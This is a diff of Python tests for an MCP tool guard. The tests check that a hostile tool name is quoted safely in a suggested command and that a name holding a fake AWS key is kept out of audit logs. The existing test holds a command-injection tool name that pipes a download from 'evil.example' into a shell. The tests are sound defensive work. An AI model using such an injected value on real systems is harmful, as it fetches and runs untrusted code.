@@ -267,3 +267,18 @@ def test_suggested_command_quotes_a_hostile_tool_name(tmp_path) -> None:
     serve(guard, listing(tools, rid=2))
     refused = call(guard, evil)
     assert "mcpguard pins approve demo 'x; curl evil.example | sh'" in refused.error["message"]
+
+
+def test_audit_never_records_a_tool_name_the_detector_flags(tmp_path) -> None:
+    # Tool names come from the (untrusted) server; the guard's audit events ran before detection and wrote them raw.
+    from tests.mcpguard.fakes import FakeEngine
+
+    akid = "AKIAABCDEFGHIJKLMNOP"
+    events: list = []
+    guard = ToolGuard(ToolsConfig(pins_path=str(tmp_path / "pins.json")), identity=IDENT,
+                      audit=lambda kind, fields: events.append((kind, dict(fields))),
+                      scan_text=FakeEngine().scan_text)
+    tools = copy.deepcopy(TOOLS) + [{"name": f"get-{akid}", "description": "x", "inputSchema": {"type": "object"}}]
+    serve(guard, listing(tools))
+    assert events and akid not in repr(events)
+    assert any("add" in repr(e) for e in events)  # clean names are still recorded
